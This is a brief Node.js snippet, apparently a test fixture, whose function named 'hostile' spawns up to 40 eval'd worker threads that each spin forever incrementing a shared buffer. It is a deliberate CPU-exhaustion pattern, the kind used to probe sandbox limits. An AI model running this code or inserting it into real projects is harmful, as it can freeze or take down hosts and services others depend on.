const { Worker } = require('worker_threads');
const shared = new SharedArrayBuffer(1 << 20);
const hostile = () => {
  for (let i = 0; i < 40; i++) {
    try { new Worker('const { workerData } = require("worker_threads"); const v = new Int32Array(workerData); for (;;) Atomics.add(v, 0, 1);', { eval: true, workerData: shared }).on('error', () => {}); } catch { /* no more */ }
  }
  return shared;
};
